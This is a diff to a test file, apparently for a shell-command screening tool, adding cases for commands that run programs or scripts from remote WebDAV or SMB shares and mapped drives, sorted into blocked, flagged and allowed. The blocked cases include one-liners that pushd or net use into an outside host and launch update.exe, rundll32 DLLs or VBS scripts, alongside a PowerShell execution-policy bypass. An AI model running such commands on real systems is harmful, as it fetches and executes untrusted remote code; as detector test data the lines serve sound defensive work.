@@ -79,6 +79,14 @@ const blocked: Array<[string, Shell, string]> = [
   ['Import-Module \\\\198.51.100.7\\s\\m.psm1; Invoke-Payload', 'powershell', 'proxy.network-share.remote'],
   ['powershell -ep bypass -File \\\\10.1.2.3\\s\\p.ps1', 'cmd', 'proxy.network-share.remote'],
   ['cscript \\\\live.example.net\\DavWWWRoot\\p.vbs', 'cmd', 'proxy.network-share.remote'],
+  // ... or from the share the text moved to, or from a drive letter mapped to one (WebDAV URLs included)
+  ['cmd /c "pushd \\\\upd.example.online@SSL\\DavWWWRoot\\d && start /b update.exe"', 'cmd', 'proxy.network-share.remote'],
+  ['pushd \\\\198.51.100.7@8080\\DavWWWRoot\\ & rundll32 x.dll,DllRegisterServer', 'cmd', 'proxy.network-share.remote'],
+  ['pushd \\\\198.51.100.7\\s\\tools\r\ncd bin\r\ninvoice.exe /silent', 'cmd', 'proxy.network-share.remote'],
+  ['net use Q: https://files.example.online/webdav /persistent:no && Q:\\invoice.exe', 'cmd', 'proxy.network-share.remote'],
+  ['New-PSDrive -Name Q -PSProvider FileSystem -Root \\\\198.51.100.7\\s; & Q:\\p.exe', 'powershell', 'proxy.network-share.remote'],
+  ['Set-Location \\\\host@SSL\\d; .\\run.ps1', 'powershell', 'proxy.network-share.remote'],
+  ['net use R: http://198.51.100.7/dav\r\ncscript //nologo R:\\a.vbs', 'cmd', 'proxy.network-share.remote'],
   // msbuild building a project staged where every user can write
   ['C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\build.csproj', 'cmd', 'proxy.msbuild.staged'],
   ['msbuild.exe %TEMP%\\x.proj', 'cmd', 'proxy.msbuild.staged'],
@@ -97,6 +105,8 @@ const flagged: Array<[string, Shell, string]> = [
   ['. \\\\corp-fs01\\scripts\\helpers.ps1', 'powershell', 'proxy.network-share.internal'],
   ['cmd /c \\\\deploy\\share\\install.bat', 'cmd', 'proxy.network-share.internal'],
   ['cscript //nologo \\\\corp.local\\netlogon\\logon.vbs', 'cmd', 'proxy.network-share.internal'],
+  ['pushd \\\\fileserver\\tools && setup.exe /quiet', 'cmd', 'proxy.network-share.internal'],
+  ['net use S: \\\\deploy\\share\r\nS:\\install.bat', 'cmd', 'proxy.network-share.internal'],
 ];
 
 const allowed: Array<[string, Shell]> = [
@@ -110,6 +120,14 @@ const allowed: Array<[string, Shell]> = [
   ['copy \\\\deploy\\share\\agent.msi C:\\Temp\\', 'cmd'],
   ['dir \\\\fileserver\\logs', 'cmd'],
   ['net use Z: \\\\fileserver\\share', 'cmd'],
+  // In a share or on a mapped drive, only what is run counts: listing and copying run nothing.
+  ['pushd \\\\upd.example.online@SSL\\d && dir && popd', 'cmd'],
+  ['net use Q: https://files.example.online/dav && copy Q:\\report.xlsx C:\\Temp\\', 'cmd'],
+  // A drive letter is looked at only once mapped, and PowerShell runs nothing from the working directory by bare name.
+  ['Q:\\invoice.exe\r\nnet use Q: https://files.example.online/dav', 'cmd'],
+  ['Set-Location \\\\host@SSL\\d; setup.exe', 'powershell'],
+  ['pushd \\\\host@SSL\\d\r\npopd\r\nsetup.exe', 'cmd'],
+  ['pushd \\\\fileserver\\tools && ipconfig.exe /all', 'cmd'],
   ['robocopy \\\\a\\b C:\\c', 'cmd'],
   ['Copy-Item \\\\198.51.100.7\\s\\report.csv C:\\t\\', 'powershell'],
   ['Get-Content \\\\fileserver\\logs\\app.log -Tail 50', 'powershell'],
